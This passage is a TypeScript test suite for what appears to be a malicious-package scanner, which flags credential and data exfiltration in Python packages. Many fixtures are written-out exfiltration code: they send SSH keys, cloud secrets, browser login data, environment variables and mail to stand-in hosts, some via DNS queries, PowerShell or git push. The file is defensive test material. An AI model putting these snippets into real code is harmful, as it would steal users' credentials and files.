      "subprocess.call(['git', 'push', 'https://' + token + '@github.example.invalid/docs/site', 'main'])",
    ].map((line) => indent + line);

  expect(
    await inspect(
      'exfiltration',
      wheel({ 'pkg/__init__.py': python('import os, subprocess', 'def publish():', ...lines('    ')) }),
    ),
  ).toMatchObject([{ class: 'note', score: 1 }]);
  expect(
    await inspect(
      'exfiltration',
      sdist({
        'setup.py': python(
          'import os, subprocess',
          'from setuptools import setup',
          ...lines(''),
          "setup(name='example')",
        ),
      }),
    ),
  ).toMatchObject([{ class: 'malware', score: 10 }]);
});

test('a question or a pattern that speaks of credentials is no file of them', async () => {
  const file = (line: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import re, requests',
        'from urllib.parse import quote_plus',
        'def find(house):',
        `    text = ${line}`,
        "    return requests.get('https://search.vendor.invalid/?q=' + text).json()",
      ),
    });

  expect(await inspect('exfiltration', file("quote_plus(f'org:{house} filename:credentials')"))).toEqual([]);
  expect(await inspect('exfiltration', file("re.search(r'(gcloud|other)/(v|w)/(.*)', house).group(3)"))).toEqual([]);
  expect(
    await inspect('exfiltration', file("quote_plus(open(f'/home/{house}/.aws/credentials').read())")),
  ).toMatchObject([{ score: 6 }]);
});

test('a hidden log-in in a folder of the house that it goes to is its own business, to another house it is not', async () => {
  const to = (host: string): Promise<readonly Finding[]> =>
    inspect(
      'exfiltration',
      wheel({
        'pkg/__init__.py': python(
          'import os, requests',
          'def refresh():',
          "    kept = open(os.path.expanduser('~/.claude/.credentials.json')).read()",
          `    return requests.post('https://${host}/token', data=kept).json()`,
        ),
      }),
    );

  expect(await to('claude.ai')).toMatchObject([{ score: 2 }]);
  expect(await to('kettle.invalid')).toMatchObject([{ score: 6 }]);
});

test('a name without a dot is a neighbour in the same network, a name that could be longer for a client is not', async () => {
  const to = (address: string): Promise<readonly Finding[]> =>
    inspect(
      'exfiltration',
      wheel({
        'pkg/__init__.py': python(
          'import os, requests',
          `requests.post('${address}', data={'t': os.environ['DEPLOY_TOKEN']}).json()`,
        ),
      }),
    );

  expect(await to('http://vault:8200/v1/secret')).toEqual([]);
  expect(await to('https://registry')).toEqual([]);
  for (const address of [
    'http://vault.metrics.invalid/v1',
    'http://vault\\t.metrics.invalid/v1',
    'http://vault:x@metrics.invalid/v1',
    'http://vault。metrics.invalid/v1',
  ])
    expect(await to(address), address).toMatchObject([{ class: 'malware', context: 'import' }]);
});

test('the place where an answer is put does not leave the machine, in an address it does', async () => {
  const file = (address: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import os, urllib.request',
        "at = os.path.join(os.environ['TEMP'], 'w.jpg')",
        `urllib.request.urlretrieve(${address}, at)`,
      ),
    });

  expect(await inspect('exfiltration', file("'https://i.imgur.com/abc.jpg'"))).toEqual([]);
  expect(await inspect('exfiltration', file("'https://files.tools.invalid/?at=' + os.getcwd()"))).toMatchObject([
    { message: 'Sends paths of this machine to files.tools.invalid.' },
  ]);
});

test.each([
  [
    'told to a stranger',
    "requests.post('https://log.tools.invalid/k', json={'k': key})",
    [{ class: 'malware', score: 10 }],
  ],
  ['told to its own service', "requests.post('https://api.openai.com/v1/revoke', json={'k': key})", []],
  ['shown in its place', "requests.post('https://log.tools.invalid/k', headers={'Authorization': key})", []],
  ['traded for an answer', "return requests.post('https://log.tools.invalid/k', json={'k': key}).json()", []],
])('a key of the environment that is %s on call', async (_how, line, expected) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, requests',
      'def start():',
      "    key = os.environ.get('OPENAI_API_KEY')",
      `    ${line}`,
    ),
  });

  const findings = await inspect('exfiltration', file);

  expect(findings.filter(({ score }) => score > 1)).toMatchObject(expected);
});

test('what curl is set up with leaves when it performs', async () => {
  const file = (address: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import json, os, pycurl',
        'c = pycurl.Curl()',
        `c.setopt(c.URL, ${address})`,
        'c.setopt(c.POSTFIELDS, json.dumps(dict(os.environ)))',
        'c.perform()',
      ),
    });

  expect(await inspect('exfiltration', file("'https://log.tools.invalid/x'"))).toContainEqual(
    expect.objectContaining({
      class: 'malware',
      score: 10,
      message: 'Sends the whole environment to log.tools.invalid.',
    }),
  );
  expect(await inspect('exfiltration', file("'http://127.0.0.1:9000/x'"))).toEqual([]);
});

test('a version that a build reads from its own file, or asks a public repository for, is nothing of this machine', async () => {
  const asking = (...lines: string[]): Promise<readonly Finding[]> =>
    inspect(
      'exfiltration',
      sdist({
        'setup.py': python(
          'import json, pathlib, subprocess, urllib.request',
          'from setuptools import setup',
          ...lines,
          "urllib.request.urlretrieve(f'https://library.vendor.invalid/{version}.tar.gz', 'library.tar.gz')",
          'setup()',
        ),
        'state/record.json': '{"version": "1.2"}',
      }),
    );

  expect(
    await asking(
      "record = pathlib.Path(__file__).resolve().parents[0] / 'state' / 'record.json'",
      "version = json.load(open(record))['version']",
    ),
  ).toEqual([]);
  expect(
    await asking(
      "version = subprocess.run(['git', 'ls-remote', '--tags', 'https://github.com/example/library.git'], capture_output=True).stdout.decode()",
    ),
  ).toEqual([]);
  expect(await asking("version = json.load(open('/var/lib/other/record.json'))['version']")).toMatchObject([
    { class: 'malware', score: 10 },
  ]);
  expect(await asking("version = subprocess.run(['git', 'log'], capture_output=True).stdout.decode()")).toMatchObject([
    { class: 'malware', score: 10 },
  ]);
});

test('a push of credentials under a log-in that stands in its address goes into the account of the author', async () => {
  const push = (address: string): string =>
    python(
      'import os, shutil, subprocess',
      'def keep():',
      "    shutil.copytree(os.path.expanduser('~/.ssh'), '/tmp/kept/s')",
      `    subprocess.call('cd /tmp/kept && git add . && git push -q ${address} HEAD:main', shell=True)`,
    );

  expect(
    await inspect('exfiltration', wheel({ 'pkg/a.py': push('https://name:ghp_0123456789abcdef@github.com/name/x') })),
  ).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 4 }]);
  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': push('https://github.com/name/x') }))).toMatchObject([
    { score: 1 },
  ]);
});

test('the secret half of a key of a cloud is one, whatever session it came from', async () => {
  const hook = (what: string): string =>
    python(
      'import urllib.request',
      'def patched(self):',
      '    key = self.get_credentials()',
      `    urllib.request.urlopen('http://203.0.113.7/?' + ${what})`,
    );

  const told = await inspect('exfiltration', wheel({ 'pkg/a.py': hook('key.secret_key') }));

  expect(told).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 4 }]);
  expect(told[0]?.message).toContain('Sends credentials');
  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': hook('key.method') }))).toEqual([]);
});

test('what a vault or a store of keys gave, told to another house that is asked nothing', async () => {
  const reader = (line: string): string =>
    python(
      'import boto3, keyring, requests',
      'def read(name):',
      "    value = boto3.client('secretsmanager').get_secret_value(SecretId=name)['SecretString']",
      `    ${line}`,
      '    return value',
    );

  expect(
    await inspect(
      'exfiltration',
      wheel({ 'pkg/a.py': reader("requests.post('https://cache.collector.invalid/w', json={'v': value})") }),
    ),
  ).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 4 }]);
  expect(
    await inspect(
      'exfiltration',
      wheel({ 'pkg/a.py': reader("requests.put('http://203.0.113.7/k', json=keyring.get_password('a', name))") }),
    ),
  ).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 4 }]);
  expect(
    await inspect(
      'exfiltration',
      wheel({ 'pkg/a.py': reader("requests.get('https://api.vendor.invalid', headers={'Authorization': value})") }),
    ),
  ).toEqual([]);
});

test('the log-in of the program of a code host is shown to its own client; an account of the author’s gets it not', async () => {
  const of = (key: string, body: string, host = 'api.github.com'): Promise<readonly Finding[]> =>
    inspect(
      'exfiltration',
      wheel({
        'pkg/__init__.py': '',
        'pkg/release.py': python(
          'import httpx, os, subprocess',
          'def draft(tag):',
          "    token = subprocess.run(['gh', 'auth', 'token'], capture_output=True, text=True).stdout.strip()",
          `    client = httpx.Client(headers={'Authorization': 'Bearer ' + ${key}})`,
          `    client.post('https://${host}/repos/example/example/releases', json={'body': ${body}})`,
        ),
      }),
    );

  expect((await of('token', 'tag + token')).every((f) => f.score <= 2)).toBe(true);
  expect(await of("'ghp_' + 'notarealtoken' * 3", 'tag + token')).toMatchObject([{ score: 6 }]);
  expect(await of('token', 'token + str(dict(os.environ))')).toMatchObject([{ score: 6 }]);
  expect(await of('token', 'tag + token', 'api.collector.invalid')).toMatchObject([{ score: 10 }]);
});

test('the environment in a question to a resolver over the web is malware; a plain question is silent', async () => {
  const resolver = (name: string): string =>
    python(
      'import os, base64, requests',
      'def resolve(name):',
      "    return requests.get('https://dns.vendor.example/dns-query', params={'name': name}).json()['Answer']",
      'def warm():',
      '    blob = base64.b32encode(str(dict(os.environ)).encode()).decode()',
      `    resolve(${name})`,
    );

  expect(
    await inspect('exfiltration', wheel({ 'pkg/a.py': resolver("blob[:60] + '.t.collector.invalid'") })),
  ).toMatchObject([{ class: 'malware', score: 10, context: 'call' }]);
  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': resolver("'vendor.example'") }))).toEqual([]);
});

test('the secrets of a cluster that a probe sends on are credentials', async () => {
  const probe = (path: string): string =>
    python(
      'import urllib.request',
      'def ask(path):',
      "    return urllib.request.urlopen('https://kubernetes.default.svc' + path).read()",
      'def health():',
      `    urllib.request.urlopen('https://probe.collector.invalid/s', data=ask('${path}'))`,
    );

  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': probe('/api/v1/secrets') }))).toMatchObject([
    { class: 'malware', score: 10, context: 'call' },
  ]);
  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': probe('/healthz') }))).toEqual([]);
});

test('the files that the callers of a function stand in are told a bare address', async () => {
  const register = (body: string): string =>
    python(
      'import inspect, requests',
      'def register(name):',
      '    files = {}',
      '    for frame in inspect.stack():',
      `        files[frame.filename] = ${body}`,
      "    requests.post('http://203.0.113.7:3000/node', json={'n': name, 'f': files})",
    );

  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': register('open(frame.filename).read()') }))).toMatchObject([
    { class: 'malware', score: 10, context: 'call' },
  ]);
  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': register('frame.lineno') }))).toEqual([]);
});

test('a file of keys by its name in the code is taken, whatever else the caller said', async () => {
  const audit = (place: string): string =>
    python(
      'import json, os, urllib.request',
      'def audit(root):',
      "    found = [name for name in os.listdir(root) if name.endswith('.sol')]",
      `    keys = open(os.path.expanduser(${place})).read()`,
      "    urllib.request.urlopen('https://api.collector.invalid/c', data=json.dumps({'f': found, 'k': keys}).encode())",
      '    return found',
    );

  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': audit("'~/.ssh/id_ed25519'") }))).toMatchObject([
    { class: 'malware', score: 10, context: 'call' },
  ]);
  expect((await inspect('exfiltration', wheel({ 'pkg/a.py': audit("root + '/.env'") })))[0]?.score ?? 0).toBeLessThan(
    10,
  );
});

test('on call, a key that goes where a file in somebody’s repository says is stolen', async () => {
  const told = (settings: string, key: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import os, requests',
        'def report(items):',
        `    place = requests.get('${settings}').json()`,
        `    requests.put(place['address'] + '/in', data=open(os.path.expanduser('${key}')).read())`,
        '    return sorted(items)',
      ),
    });
  const raw = 'https://raw.githubusercontent.com/example/settings/main/net.json';

  expect(await inspect('exfiltration', told(raw, '~/.ssh/id_rsa'))).toMatchObject([
    { class: 'malware', score: 10, context: 'call', line: 4 },
  ]);
  // the service of a vendor names the place of an upload
  const upload = await inspect('exfiltration', told('https://api.storage-of.invalid/uploads', '~/.ssh/id_rsa'));
  expect(upload.filter(({ score }) => score > 1)).toEqual([]);
  expect(await inspect('exfiltration', told(raw, '~/notes.txt'))).toEqual([]);
});

test.each([
  ["open(os.path.expanduser('~/.config/Code/User/globalStorage/state.vscdb'), 'rb').read()", 'credential files'],
  ["[open(p).read() for p in glob.glob('/proc/[0-9]*/environ')]", 'credential files'],
  [
    "[m.Body for m in Dispatch('Outlook.Application').GetNamespace('MAPI').GetDefaultFolder(6).Items]",
    'mail of the user',
  ],
])('%s is somebody’s', async (data, what) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import glob, os, requests',
      'from win32com.client import Dispatch',
      `requests.post('https://in.metrics.invalid/k', json=${data})`,
    ),
  });

  const [finding] = await inspect('exfiltration', file);

  expect(finding).toMatchObject({ class: 'malware', score: 10, context: 'import', line: 3 });
  expect(finding?.message).toContain(what);
});

test('a file in the home that PowerShell is told to send is sent; a report of the program’s own is not', async () => {
  const send = (path: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import subprocess',
        `subprocess.run(['powershell', '-c', 'Invoke-RestMethod -Uri https://in.metrics.invalid/k -Method Post -InFile ${path}'])`,
      ),
    });

  expect(await inspect('exfiltration', send('$env:USERPROFILE\\\\.ssh\\\\id_rsa'))).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 2 },
  ]);
  expect(await inspect('exfiltration', send('report.txt'))).toEqual([]);
});

test.each([
  ['~/.config/google-chrome/Default/Bookmarks', 'bookmarks of a browser'],
  ['~/.config/google-chrome/Default/Login Data', 'browser or messenger profiles'],
])('what was read of %s is called %s', async (path, name) => {
  const file = wheel({
    'pkg/__init__.py': '',
    'pkg/save.py': python(
      'import os, requests',
      'def save():',
      `    with open(os.path.expanduser('${path}')) as kept:`,
      "        return requests.post('https://api.archive.invalid/save', data=kept.read()).json()",
    ),
  });

  expect(await inspect('exfiltration', file)).toMatchObject([{ message: `Sends ${name} to api.archive.invalid.` }]);
});

test('names of a machine in the mailbox of the author are found; a mailer that its user signs in with is a note', async () => {
  const mailer = (login: string): string =>
    python(
      'import smtplib, socket',
      'def notify(user=None, password=None):',
      "    line = smtplib.SMTP('smtp.gmail.com', 587)",
      `    line.login(${login})`,
      "    line.sendmail('a@mail.invalid', 'b@mail.invalid', socket.gethostname())",
    );

  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': mailer("'a@mail.invalid', 'aaaa bbbb'") }))).toMatchObject([
    { class: 'malware', score: 9, context: 'call', line: 5 },
  ]);
  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': mailer('user, password') }))).toMatchObject([
    { class: 'note', score: 1 },
  ]);
});

test('what a walk through the folder of a project finds, packed in memory and sent by an import, was looked for', async () => {
  const file = (pick: string, last: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import io, os, requests, zipfile',
        'def send():',
        '    box = io.BytesIO()',
        "    with zipfile.ZipFile(box, 'w') as z:",
        `        ${pick}`,
        "    requests.post('https://in.metrics.invalid/up', files={'f': ('s.zip', box.getvalue())})",
        last,
      ),
    });
  const walk = 'for place, _, names in os.walk(os.getcwd()): z.write(os.path.join(place, names[0]))';

  expect(await inspect('exfiltration', file(walk, 'send()'))).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 6 },
  ]);
  // what somebody asks to be published
  expect(await inspect('exfiltration', file(walk, ''))).toEqual([]);
  expect(await inspect('exfiltration', file("z.writestr('version', '1.0')", 'send()'))).toEqual([]);
});

test('on call, the key of a web application that is told another house is stolen', async () => {
  const file = (data: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import requests',
        'from django.conf import settings',
        'def ready(app):',
        `    requests.post('https://in.metrics.invalid/s', json={'k': settings.${data}})`,
        '    return app',
      ),
    });

  expect(await inspect('exfiltration', file('SECRET_KEY'))).toMatchObject([
    { class: 'malware', score: 10, context: 'call', line: 4 },
  ]);
  expect(await inspect('exfiltration', file('LANGUAGE_CODE'))).toEqual([]);
});

test('documents of a person that a small archive looks for and hands to a fixed host, on call, are told', async () => {
  const file = (place: string, head: string, send: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import os, requests',
        'from pathlib import Path',
        `def ${head}:`,
        `    for path in (Path.home() / '${place}').rglob('*.*'):`,
        `        ${send}requests.post('https://up.metrics.invalid/d', files={'f': open(path, 'rb')})`,
      ),
    });

  expect(await inspect('exfiltration', file('Documents', 'prepare(items)', ''))).toMatchObject([
    { class: 'suspicious', score: 6, context: 'call', line: 5 },
  ]);
  // logs of the program itself, and an upload whose answer is looked at
  expect(await inspect('exfiltration', file('.example/logs', 'report()', ''))).toEqual([]);
  expect(await inspect('exfiltration', file('Documents', 'upload()', 'yield '))).toEqual([]);
});
